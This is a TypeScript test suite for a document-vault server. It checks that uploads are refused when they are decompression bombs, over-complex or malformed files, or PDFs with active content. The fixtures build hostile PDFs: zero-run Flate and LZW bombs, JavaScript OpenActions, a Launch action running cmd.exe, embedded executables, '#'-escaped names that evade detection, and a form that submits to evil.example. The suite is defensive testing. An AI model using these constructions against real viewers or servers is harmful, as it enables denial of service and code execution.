import { crc32, deflateSync } from "node:zlib";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { PDFDocument, rgb } from "pdf-lib";
import { Documents, Tenancy } from "@keyhold/core";
import { transformStats } from "../packages/core/src/documents/pool.ts";
import { BUDGET } from "../packages/core/src/documents/inspect.ts";
import { Vault, newClientBody, startVault, uniquePhone } from "./harness.ts";
import { fetchBytes, pdf, scan, upload } from "./documents-fixtures.ts";
import {
  bigImagePdf,
  bombPdf,
  buildPdf,
  loopingPages,
  lzwEncode,
  lzwZeroRuns,
  manyObjects,
  manyPages,
  objectStreamPdf,
  onePage,
} from "./documents-hostile.ts";

/**
 * Uploads that try to hurt the server or its users: decompression bombs and other files that cost
 * more to open than the budget in docs/documents.md allows (413 `document_too_complex`), PDFs with
 * active content (415 `active_content`), files that only look like what they claim (415
 * `malformed_document`). Each refusal stores nothing, takes no storage and is in the trail.
 */
let vault: Vault;
const LI = "agent.li@anjia";
const WANG = "compliance.wang@anjia";
let clientId: string;

const a = () => vault.runtime.adapters;

async function docs() {
  return Documents.documentsOfClient(await Documents.systemContext(a(), "anjia", "test"), clientId);
}
async function blobCount() {
  let n = 0;
  for (const c of ["identity-scan", "income-proof", "contract", "property-record", "general"])
    n += (await a().blobs.list(`${c}/anjia/`)).length;
  return n;
}
async function deniedUploads() {
  const r = await vault.get(`/audit?clientId=${clientId}&action=document.upload&limit=200`, WANG);
  expect(r.status).toBe(200);
  return (r.body.items as any[]).filter((e) => e.outcome === "denied");
}

/** Uploads `bytes` and checks the refusal: status, code, problem+json, nothing kept, one denied event with the code. */
async function expectRefused(bytes: Buffer, status: number, code: string, type = "application/pdf") {
  const before = {
    docs: (await docs()).length,
    blobs: await blobCount(),
    used: await Tenancy.storageUsed(a(), "anjia"),
    denied: (await deniedUploads()).length,
  };
  const r = await upload(vault, clientId, "other", bytes, LI, type);
  expect(r.status, r.text).toBe(status);
  expect(r.body.code).toBe(code);
  expect(r.headers.get("content-type")).toContain("application/problem+json");
  expect((await docs()).length).toBe(before.docs);
  expect(await blobCount()).toBe(before.blobs);
  expect(await Tenancy.storageUsed(a(), "anjia")).toBe(before.used);
  const denied = await deniedUploads();
  expect(denied).toHaveLength(before.denied + 1);
  expect(denied.some((e) => e.code === code)).toBe(true);
  return r;
}

/** A PNG whose header declares `width` × `height` with one tiny compressed row: only the header is big. */
function pngDeclaring(width: number, height: number) {
  const chunk = (type: string, data: Buffer) => {
    const body = Buffer.concat([Buffer.from(type, "latin1"), data]);
    const len = Buffer.alloc(4);
    len.writeUInt32BE(data.length);
    const crc = Buffer.alloc(4);
    crc.writeUInt32BE(crc32(body));
    return Buffer.concat([len, body, crc]);
  };
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr.set([8, 0, 0, 0, 0], 8);
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk("IHDR", ihdr),
    chunk("IDAT", deflateSync(Buffer.alloc(width + 1))),
    chunk("IEND", Buffer.alloc(0)),
  ]);
}

beforeAll(async () => {
  vault = await startVault();
  const r = await vault.post("/clients", newClientBody({ fields: { fullName: "恶意文件", phone: uniquePhone() } }), LI);
  expect(r.status).toBe(201);
  clientId = r.body.id;
});
afterAll(() => vault.stop());

describe("the parsing budget", () => {
  it("refuses a decompression bomb (a 100 KB PDF inflating to 100 MiB) with 413 document_too_complex, keeping nothing", async () => {
    const bomb = await bombPdf(100);
    expect(bomb.length).toBeLessThan(200 * 1024);
    const r = await expectRefused(bomb, 413, "document_too_complex");
    expect(r.body.detail).toContain(`${BUDGET.inflatedBytes / 1024 / 1024} MiB`);
  });

  it("counts every layer and every stream: object streams and doubly compressed streams too", async () => {
    const zeros = deflateSync(Buffer.alloc(70 * 1024 * 1024));
    const inObjectStream = buildPdf([
      "<< /Type /Catalog /Pages 2 0 R >>",
      "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
      "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
      { dict: "/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", stream: zeros },
    ]);
    await expectRefused(inObjectStream, 413, "document_too_complex");
    const twice = buildPdf([
      "<< /Type /Catalog /Pages 2 0 R >>",
      "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
      "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
      { dict: "/Filter [/FlateDecode /FlateDecode]", stream: deflateSync(zeros) },
    ]);
    await expectRefused(twice, 413, "document_too_complex");
  });

  it("counts LZW like Flate: an LZW bomb is refused; LZW that decodes within the budget is read (an object stream's JavaScript is found)", async () => {
    const bomb = lzwZeroRuns(10);
    expect(bomb.length).toBeLessThan(100 * 1024);
    await expectRefused(
      buildPdf([
        "<< /Type /Catalog /Pages 2 0 R >>",
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
        { dict: "/Filter /LZWDecode", stream: bomb },
      ]),
      413,
      "document_too_complex",
    );
    const objectStream = (hidden: string) =>
      buildPdf([
        "<< /Type /Catalog /Pages 2 0 R /Names 5 0 R >>",
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
        "null",
        "null",
        {
          dict: "/Type /ObjStm /N 1 /First 4 /Filter /LZWDecode",
          stream: lzwEncode(Buffer.from(`5 0 ${hidden}`.padEnd(600, " "))),
        },
      ]);
    await expectRefused(
      objectStream("<< /JavaScript << /Names [(a) << /S /JavaScript /JS (x) >>] >> >>"),
      415,
      "active_content",
    );
    const benign = await upload(vault, clientId, "other", objectStream("<< /Dests << >> >>"), LI, "application/pdf");
    expect(benign.status, benign.text).toBe(201);
  });

  it("refuses more than 200 pages, more than 10,000 objects, and an image above 50 megapixels; accepts what is within", async () => {
    await expectRefused(manyPages(BUDGET.pages + 1), 413, "document_too_complex");
    await expectRefused(manyObjects(BUDGET.objects + 1), 413, "document_too_complex");
    await expectRefused(bigImagePdf(10_000, 5_001), 413, "document_too_complex");
    await expectRefused(pngDeclaring(10_000, 5_001), 413, "document_too_complex", "image/png");
    for (const within of [manyPages(BUDGET.pages), manyObjects(BUDGET.objects - 10), bigImagePdf(10_000, 5_000)]) {
      const ok = await upload(vault, clientId, "other", within, LI, "application/pdf");
      expect(ok.status, ok.text).toBe(201);
    }
  });

  it("a file that takes longer than the worker's deadline to open is refused as too complex", async () => {
    const saved = process.env.KEYHOLD_TRANSFORM_TIMEOUT_MS;
    process.env.KEYHOLD_TRANSFORM_TIMEOUT_MS = "1";
    try {
      await expectRefused(manyPages(BUDGET.pages), 413, "document_too_complex");
    } finally {
      if (saved === undefined) delete process.env.KEYHOLD_TRANSFORM_TIMEOUT_MS;
      else process.env.KEYHOLD_TRANSFORM_TIMEOUT_MS = saved;
    }
  });

  it("opens uploads in the transform pool's worker threads, not on the event loop", async () => {
    const before = (await transformStats()).completed;
    expect((await upload(vault, clientId, "other", await pdf(1), LI, "application/pdf")).status).toBe(201);
    expect((await transformStats()).completed).toBeGreaterThan(before);
  });
});

describe("active content", () => {
  const cases: [string, Buffer][] = [
    ["JavaScript run on opening", onePage("/OpenAction 5 0 R", "", ["<< /S /JavaScript /JS (app.alert('hi')) >>"])],
    ["an OpenAction of any kind", onePage("/OpenAction [3 0 R /Fit]")],
    [
      "document-level JavaScript",
      onePage("/Names << /JavaScript 5 0 R >>", "", ["<< /Names [(init) << /S /JavaScript /JS (this.print()) >>] >>"]),
    ],
    ["additional actions (AA) on a page", onePage("", "/AA << /O 5 0 R >>", ["<< /S /GoTo /D [3 0 R /Fit] >>"])],
    [
      "a Launch action behind a link",
      onePage("", "/Annots [5 0 R]", [
        "<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /Launch /F (cmd.exe) >> >>",
      ]),
    ],
    [
      "an embedded file",
      onePage("/Names << /EmbeddedFiles 5 0 R >>", "", [
        "<< /Names [(x.exe) 6 0 R] >>",
        "<< /Type /Filespec /F (x.exe) /EF << /F 7 0 R >> >>",
        { dict: "/Type /EmbeddedFile", stream: Buffer.from("MZ") },
      ]),
    ],
    ["RichMedia (Flash)", onePage("", "/Annots [5 0 R]", ["<< /Type /Annot /Subtype /RichMedia /Rect [0 0 10 10] >>"])],
    [
      "an XFA form",
      onePage("/AcroForm << /Fields [] /XFA 5 0 R >>", "", [{ dict: "", stream: Buffer.from("<xdp:xdp/>") }]),
    ],
    [
      "a form button that submits",
      onePage("/AcroForm << /Fields [5 0 R] >>", "/Annots [5 0 R]", [
        "<< /Type /Annot /Subtype /Widget /FT /Btn /T (go) /Rect [0 0 10 10] /A << /S /SubmitForm /F (https://evil.example/) >> >>",
      ]),
    ],
    [
      "a form field with a plain action",
      onePage("/AcroForm << /Fields [5 0 R] >>", "/Annots [5 0 R]", [
        "<< /Type /Annot /Subtype /Widget /FT /Btn /T (go) /Rect [0 0 10 10] /A << /S /GoTo /D [3 0 R /Fit] >> >>",
      ]),
    ],
    [
      "names spelled with # escapes (/J#61vaScript)",
      onePage("/Names << /J#61vaScript 5 0 R >>", "", [
        "<< /Names [(a) << /S /J#61vaScript /J#53 (app.alert(1)) >>] >>",
      ]),
    ],
    [
      "JavaScript hidden in a compressed object stream",
      objectStreamPdf("/Names 5 0 R", "<< /JavaScript << /Names [(a) << /S /JavaScript /JS (x) >>] >> >>"),
    ],
  ];

  it.each(cases)(
    "refuses %s with 415 active_content: nothing stored, the refusal in the trail",
    async (_name, bytes) => {
      const r = await expectRefused(bytes, 415, "active_content");
      expect(r.body.detail).toMatch(/active content \(\/\w+/);
    },
  );

  it("keeps PDFs with nothing active: pdf-lib's own output (object streams), links to web pages, a title that mentions /JS", async () => {
    const doc = await PDFDocument.create();
    doc.setTitle("about /JavaScript and /OpenAction");
    doc.addPage().drawRectangle({ x: 40, y: 40, width: 100, height: 20, color: rgb(0.2, 0.2, 0.3) });
    const kept = [
      Buffer.from(await doc.save()),
      onePage("", "/Annots [5 0 R]", [
        "<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /URI /URI (https://example.com/) >> >>",
      ]),
      objectStreamPdf("/Names 5 0 R", "<< /Dests << >> >>"),
    ];
    for (const bytes of kept) {
      const r = await upload(vault, clientId, "other", bytes, LI, "application/pdf");
      expect(r.status, r.text).toBe(201);
      // …and it opens watermarked like any other scan.
      const view = await fetchBytes(vault, "GET", `/documents/${r.body.id}?purpose=viewing`, { as: LI });
      expect(view.status).toBe(200);
      expect(view.headers.get("content-type")).toBe("application/pdf");
      expect((await PDFDocument.load(view.bytes)).getPageCount()).toBe(1);
    }
  });
});

describe("malformed files", () => {
  it.each([
    ["%PDF- followed by anything else", () => Buffer.from("%PDF-1.7\nthis is not a PDF at all\n"), "application/pdf"],
    ["the PDF magic alone", () => Buffer.from("%PDF-"), "application/pdf"],
    ["a truncated PDF", async () => (await pdf(2)).subarray(0, 300), "application/pdf"],
    ["a page tree that contains itself", () => loopingPages(), "application/pdf"],
    [
      "a corrupt compressed stream",
      () =>
        buildPdf([
          "<< /Type /Catalog /Pages 2 0 R >>",
          "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
          "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents 4 0 R >>",
          { dict: "/Filter /FlateDecode", stream: Buffer.from("not zlib data at all") },
        ]),
      "application/pdf",
    ],
    ["a truncated JPEG", async () => (await scan("jpeg")).subarray(0, 2000), "image/jpeg"],
    [
      "PNG magic and garbage",
      () => Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), Buffer.alloc(200, 7)]),
      "image/png",
    ],
    [
      "JPEG magic and garbage",
      () => Buffer.concat([Buffer.from([0xff, 0xd8, 0xff]), Buffer.alloc(500, 0x41)]),
      "image/jpeg",
    ],
  ] as [string, () => Buffer | Promise<Buffer>, string][])(
    "refuses %s with 415 malformed_document, never 500",
    async (_name, make, type) => {
      await expectRefused(await make(), 415, "malformed_document", type);
    },
  );
});

describe("paths", () => {
  it("answers malformed percent-encoding in a path with 400, not 500, showing nothing", async () => {
    for (const path of ["/clients/%E4%B8", "/clients/%zz/documents", "/documents/%E0%A4%A", "/shared/%ff%fe"]) {
      const r = await vault.request("GET", path, { as: LI });
      expect(r.status, path).toBe(400);
      expect(r.body.code, path).toBe("validation_failed");
      expect(r.body.errors?.[0]?.message, path).toBe("malformed percent-encoding");
      expect(r.text, path).not.toMatch(/URIError|stack|at decodeURIComponent/);
    }
    // Well-formed encoding still decodes: an unknown client answers 404, not 400.
    expect((await vault.get(`/clients/${encodeURIComponent("cl_不存在")}`, LI)).status).toBe(404);
  });
});
